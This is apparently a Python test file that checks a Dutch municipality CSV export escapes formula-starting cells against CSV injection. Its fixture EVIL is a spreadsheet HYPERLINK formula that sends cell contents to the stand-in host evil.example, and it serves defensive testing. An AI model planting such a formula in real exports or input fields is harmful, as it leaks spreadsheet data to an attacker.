"""CSV exports cannot carry a formula into the municipality's spreadsheet (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

from hypothesis import given
from hypothesis import strategies as st

from verbinding.areas.models import Municipality
from verbinding.earlysignals.adapters import get_adapter
from verbinding.earlysignals.models import Signal
from verbinding.households.models import Household, Tenancy
from verbinding.web.spreadsheet import FORMULA_START, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"klik")'


def test_cells_that_start_a_formula_are_made_text_and_numbers_stay_numbers():
    assert safe_cell(EVIL) == "'" + EVIL
    for start in ("+31 6 1234", "-2+3", "@SUM(A1)", "\t=1"):
        assert safe_cell(start) == "'" + start
    assert safe_cell("-12.50") == "-12.50" and safe_cell("-7") == "-7"
    assert safe_cell("Jansen") == "Jansen" and safe_cell(42) == 42


@given(st.text())
def test_no_escaped_cell_starts_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+([.,]\d+)?", cell)


def test_the_municipality_export_escapes_a_formula_in_a_tenants_name():
    signal = Signal(
        municipality=Municipality(cbs_code="GM0150", name="Deventer"),
        household=Household(external_id="R1", name="x"),
        tenancy=Tenancy(external_id="HO1"),
        name=EVIL,
        street="@Dorpsstraat 1",
        postcode="1234AB",
        city="-Deventer",
        phone="+31612345678",
        email="a@b.nl",
        arrears_cents=12345,
        arose_on=dt.date(2026, 1, 1),
        signal_date=dt.date(2026, 2, 1),
        fields=["name", "address", "phone", "email", "arrears"],  # as the reminder announced
    )
    content = get_adapter("generic").render([signal], "csv").decode()
    (row,) = csv.DictReader(io.StringIO(content), delimiter=";")
    assert row["name"] == "'" + EVIL
    assert row["street"].startswith("'@") and row["city"] == "'-Deventer"
    assert row["phone"] == "'+31612345678" and row["arrears_eur"] == "123.45"
